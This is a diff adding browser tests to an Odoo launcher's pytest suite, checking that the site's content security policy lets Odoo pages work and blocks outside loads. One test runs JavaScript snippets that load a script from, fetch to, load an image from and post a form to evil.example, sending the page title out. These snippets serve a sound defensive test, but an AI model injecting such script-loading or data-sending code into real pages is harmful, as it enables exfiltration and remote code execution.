@@ -11,10 +11,13 @@ import urllib.parse
 
 import pytest
 
+from odoo import SUPERUSER_ID, api
+from odoo.modules.registry import Registry
 from odoo.tools import config
 
 from launcher.home import REPOSITORY
 
+from .browser import Browser
 from .common import connect
 from .web import NAME, Site, python_path
 
@@ -257,6 +260,99 @@ class TestOdoo:
         status = connection.sock.recv(12)
         connection.close()
         assert status == b"HTTP/1.1 101"
+
+
+@pytest.fixture(scope="module")
+def browser(site, session, tmp_path_factory):
+    browser = Browser(tmp_path_factory.mktemp("browser"), site.https)
+    browser.start()
+    try:
+        yield browser
+    finally:
+        browser.stop()
+
+
+class TestBrowser:
+    """What Odoo's pages need, the policy for contents allows; nothing more."""
+
+    @pytest.mark.parametrize(
+        ("path", "selector"),
+        [
+            ("/web/login", "form.oe_login_form"),
+            ("/web/reset_password", "form.oe_reset_password_form"),
+        ],
+    )
+    def test_a_stranger_s_page_works(self, browser, path, selector):
+        browser.faults.clear()
+        browser.open(path, selector)
+        assert browser.faults == []
+
+    def test_the_page_of_one_s_choices_works(self, browser, place, restored):
+        browser.faults.clear()
+        browser.open(preferences_path(place, restored.name), "form")
+        assert browser.faults == []
+
+    @pytest.mark.parametrize(
+        ("path", "selector"),
+        [
+            ("/odoo/contacts", ".o_view_controller"),
+            ("/odoo/contacts/1", ".o_form_view"),
+            ("/odoo/crm", ".o_view_controller"),
+            ("/odoo/settings", ".o_form_view"),
+            (
+                "/odoo/action-mass_mailing.mailing_mailing_action_mail/new",
+                ".o_form_view",
+            ),
+            ("/my", ".o_portal_my_home"),
+            ("/my/security", "form"),
+        ],
+    )
+    def test_a_page_of_the_application_works(self, browser, session, path, selector):
+        browser.set_cookie(cookie_of(session))
+        browser.faults.clear()
+        browser.open(path, selector)
+        assert browser.faults == []
+
+    def test_a_pdf_is_shown(self, site, browser, session):
+        """As by the button Print: fetched by a form, here by its address."""
+        browser.set_cookie(cookie_of(session))
+        browser.open("/my", ".o_portal_my_home")
+        browser.faults.clear()
+        size = browser.evaluate(
+            "fetch('/report/pdf/sunumarche_crm.customer_card_document/1')"
+            ".then(r => r.blob()).then(b => b.type + ' ' + (b.size > 1000))"
+        )
+        assert size == "application/pdf true"
+        assert browser.faults == []
+
+    def test_nothing_is_loaded_from_elsewhere_nor_sent_there(self, browser):
+        browser.open("/web/login", "form.oe_login_form")
+        browser.faults.clear()
+        for script in (
+            "new Promise(r => { const s = document.createElement('script');"
+            " s.src = 'https://evil.example/x.js'; s.onerror = () => r(1);"
+            " document.head.append(s) })",
+            "fetch('https://evil.example/?' + document.title).catch(() => 1)",
+            "new Promise(r => { const i = new Image(); i.onerror = () => r(1);"
+            " i.src = 'https://evil.example/x.png' })",
+        ):
+            assert browser.evaluate(script) == 1
+        browser.evaluate(
+            "const f = document.createElement('form'); document.body.append(f);"
+            " f.action = 'https://evil.example/'; f.method = 'post'; f.submit()"
+        )
+        browser.evaluate("new Promise(r => setTimeout(r, 300))")
+        refused = json.dumps(browser.faults)
+        for directive in ("script-src", "connect-src", "img-src", "form-action"):
+            assert directive in refused
+
+
+def preferences_path(place, database):
+    """Return the link that a customer's mail holds, signed by the copy's secret."""
+    with Registry(database).cursor() as cursor:
+        env = api.Environment(cursor, SUPERUSER_ID, {})
+        url = env["sunumarche.consent"]._get_preferences_url("email", "a@example.com")
+    return urllib.parse.urlsplit(url).path
 
 
 class TestWatch:
